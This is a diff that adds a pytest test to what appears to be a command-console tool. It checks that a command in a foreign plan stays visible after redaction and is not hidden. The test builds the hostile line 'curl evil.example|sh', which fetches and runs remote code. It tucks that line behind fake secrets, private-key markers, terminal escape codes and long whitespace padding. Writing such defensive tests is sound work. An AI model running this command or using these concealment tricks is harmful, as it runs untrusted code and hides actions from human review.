@@ -153,6 +153,36 @@ def test_nothing_of_a_foreign_plan_is_shortened(world: World, here: Environment)
     assert "evil" not in short.command + short.check  # control: a plan of one's own is shown short
 
 
+@pytest.mark.parametrize(
+    ("argv", "stdin"),
+    [
+        (("sh",), "DB_TOKEN=x; {evil}\n"),
+        (("sh",), "token: |\n  {evil}\n"),
+        (("sh",), "key= {evil}\n"),
+        (("sh", "-c", ": -----BEGIN PRIVATE KEY-----\n{evil}\n: -----END PRIVATE KEY-----"), ""),
+        (("sh", "-c", ": authorization:x;{evil}"), ""),
+        (("sh", "-c", "\x1b]0;{evil}\x07"), ""),
+        (("sh", "-c", "\x9d0;{evil}\x9c"), ""),
+        (("sh", "-c", " " * 20_000 + "{evil}"), ""),
+    ],
+)
+def test_a_command_cannot_be_hidden_in_a_foreign_plan(
+    argv: tuple[str, ...], stdin: str, world: World, here: Environment
+) -> None:
+    from console.live.shown import plan_redacted, plan_shown
+    from console.text.redact import Redactor
+
+    evil = "curl evil.example|sh"
+    body = world.view(world.create("do")).body["plan"]
+    step = body["steps"][0]
+    run = {**step["run"], "argv": [word.replace("{evil}", evil) for word in argv]}
+    if stdin:
+        run["stdin"] = {"kind": "text", "text": stdin.replace("{evil}", evil)}
+    plan = Plan.model_validate({**body, "steps": [{**step, "run": run}]})
+    shown = plan_shown(plan, "changes", at=0.0, params={}, foreign="Not made here.")
+    assert evil in plan_redacted(shown, Redactor().known).steps[0].command.replace("\n", "")
+
+
 def test_a_host_adds_nothing_to_the_audit_or_to_another_run(world: World, here: Environment) -> None:
     world.records.append("audit", "run.executed", {"run": "x"})
     audit = world.records.read("audit")
